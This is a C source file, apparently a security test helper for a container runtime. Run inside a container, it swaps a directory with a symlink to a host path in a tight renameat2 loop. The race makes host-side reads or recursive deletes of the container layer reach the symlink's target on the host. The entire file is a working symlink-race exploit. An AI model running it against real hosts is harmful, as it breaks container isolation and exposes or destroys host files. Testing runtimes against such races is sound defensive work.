/*
 * The attack on host-side reads of a container's writable layer, run inside a container:
 *   racer DIR TARGET
 * makes DIR/d (a directory of ordinary files) and DIR/l (a symlink to TARGET, a path on the
 * *host*, where the host's own walk would resolve it), writes DIR/ready, then swaps d and l
 * with renameat2(RENAME_EXCHANGE) in a tight loop, forever. A host process that lstat()s
 * DIR/d, sees a directory and then opens DIR/d/... by path is, some of the time, reading
 * TARGET instead.
 *   racer DIR TARGET PAIRS
 * also makes d1/l1 … (4 files each) and swaps every pair in turn, going on with the others
 * when one is gone: a recursive delete of DIR meets PAIRS races, not one.
 *   racer --swap PATH TARGET
 * swaps an existing directory PATH (e.g. a /etc the container made its own) with PATH.l, a
 * symlink to TARGET, the same way.
 * Built static by the test (cc -static), so it runs in any image.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

struct pair {
    char d[4096], l[4096];
    int alive;
};
static struct pair pairs[64];

static void make_pair(struct pair *p, const char *dir, int index, int files, const char *target)
{
    snprintf(p->d, sizeof p->d, index ? "%s/d%d" : "%s/d", dir, index);
    snprintf(p->l, sizeof p->l, index ? "%s/l%d" : "%s/l", dir, index);
    if (mkdir(p->d, 0755) < 0) perror("racer: mkdir");
    for (int i = 0; i < files; i++) {
        char name[4200];
        snprintf(name, sizeof name, "%s/own-%02d", p->d, i);
        int fd = open(name, O_WRONLY | O_CREAT | O_EXCL, 0644);
        if (fd < 0 || write(fd, "the container's own file\n", 25) != 25) perror("racer: file");
        if (fd >= 0) close(fd);
    }
    if (symlink(target, p->l) < 0) perror("racer: symlink");
    p->alive = 1;
}

static int exchange(const struct pair *p)
{
    return (int)syscall(SYS_renameat2, AT_FDCWD, p->d, AT_FDCWD, p->l, RENAME_EXCHANGE);
}

int main(int argc, char **argv)
{
    if (argc == 4 && !strcmp(argv[1], "--swap")) {
        snprintf(pairs[0].d, sizeof pairs[0].d, "%s", argv[2]);
        snprintf(pairs[0].l, sizeof pairs[0].l, "%s.l", argv[2]);
        if (symlink(argv[3], pairs[0].l) < 0) {
            perror("racer: symlink");
            return 1;
        }
        for (;;) {
            if (exchange(&pairs[0]) < 0) {
                perror("racer: renameat2");
                return 1;
            }
        }
    }
    if (argc != 3 && argc != 4) {
        fprintf(stderr, "usage: racer DIR TARGET [PAIRS] | racer --swap PATH TARGET\n");
        return 2;
    }
    int count = argc == 4 ? atoi(argv[3]) : 1;
    if (count < 1 || count > 64 || mkdir(argv[1], 0755) < 0) {
        perror("racer: setup");
        return 2;
    }
    for (int i = 0; i < count; i++) make_pair(&pairs[i], argv[1], i, i ? 4 : 64, argv[2]);
    char ready[4200];
    snprintf(ready, sizeof ready, "%s/ready", argv[1]);
    int fd = open(ready, O_WRONLY | O_CREAT | O_EXCL, 0644);
    if (fd < 0) {
        perror("racer: ready");
        return 1;
    }
    close(fd);
    for (int alive = count; alive > 0;) {
        for (int i = 0; i < count; i++) {
            if (pairs[i].alive && exchange(&pairs[i]) < 0) {
                pairs[i].alive = 0; /* removed under us: race the others */
                alive--;
            }
        }
    }
    return 0;
}
